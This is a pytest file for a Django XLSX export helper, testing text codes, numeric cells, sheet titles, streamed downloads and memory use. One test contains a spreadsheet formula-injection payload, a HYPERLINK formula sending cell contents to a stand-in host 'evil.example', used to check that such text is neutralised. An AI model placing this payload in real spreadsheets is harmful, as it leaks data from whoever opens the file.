import io
import tempfile
import tracemalloc
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from openpyxl import load_workbook

from core.xlsx import CONTENT_TYPE, TEXT_FORMAT, sheet_title, write_xlsx, xlsx_response


def workbook_of(data: bytes):
    return load_workbook(io.BytesIO(data))


def written(header, rows, **kwargs):
    buffer = io.BytesIO()
    write_xlsx(buffer, header, rows, **kwargs)
    return workbook_of(buffer.getvalue())


def test_codes_are_text_cells_that_keep_their_leading_zeros():
    sheet = written(
        ["departement", "code_postal", "code_insee", "siret"],
        [["09", "09100", "09122", "01234567890128"]],
    ).active

    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells] == ["09", "09100", "09122", "01234567890128"]
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.number_format == TEXT_FORMAT for cell in cells)


def test_numbers_stay_numbers():
    sheet = written(["a", "b", "c", "d"], [[62.5, -0.5, 100, Decimal("43.25")]]).active

    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells] == [62.5, -0.5, 100, 43.25]
    assert all(cell.data_type == "n" for cell in cells)
    assert all(cell.number_format == "General" for cell in cells)


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 5 61 00 00 00", "-3", "@SUM(1+1)"],
)
def test_text_a_spreadsheet_would_run_is_neutralised(text):
    cell = written(["nom"], [[text]]).active["A2"]

    assert cell.value == "'" + text
    assert cell.data_type == "s"  # never "f", a formula


def test_empty_cells_control_characters_and_the_header():
    sheet = written(
        ["nom", "vide", "n"], [["Zoé\x0b\x00 et Lou", None, ""]], title="Par statut"
    ).active

    assert sheet.title == "Par statut"
    assert [c.value for c in sheet[1]] == ["nom", "vide", "n"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[2]] == ["Zoé et Lou", None, None]


def test_sheet_titles_are_ones_excel_accepts():
    assert sheet_title("Initiatives by status: [all]/*?") == "Initiatives by status   all"
    assert len(sheet_title("x" * 40)) == 31
    assert sheet_title("") == "Data"


def test_the_download_is_streamed_from_a_file():
    response = xlsx_response(["nom", "code"], iter([["Épicerie", "09"]]), filename="a.xlsx")

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="a.xlsx"'
    sheet = workbook_of(b"".join(response.streaming_content)).active
    assert [c.value for c in sheet[2]] == ["Épicerie", "09"]
    response.file_to_stream.close()  # close() would signal the end of a request (database)


def _peak_memory(rows: int) -> int:
    def generate():
        for n in range(rows):
            yield [f"initiative-{n}", f"Épicerie n° {n}", "09100", "09", 43.1 + n / 1e6, n]

    tracemalloc.start()
    try:
        with tempfile.TemporaryFile() as file:
            write_xlsx(file, ["id", "nom", "cp", "dep", "lat", "n"], generate())
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_the_number_of_rows():
    """Write-only mode: rows go to a temporary file as they come (the 20,000-row export of the
    API is timed by bench/api_list.py)."""
    small, large = _peak_memory(200), _peak_memory(1600)

    assert large < small * 1.5 + 256 * 1024
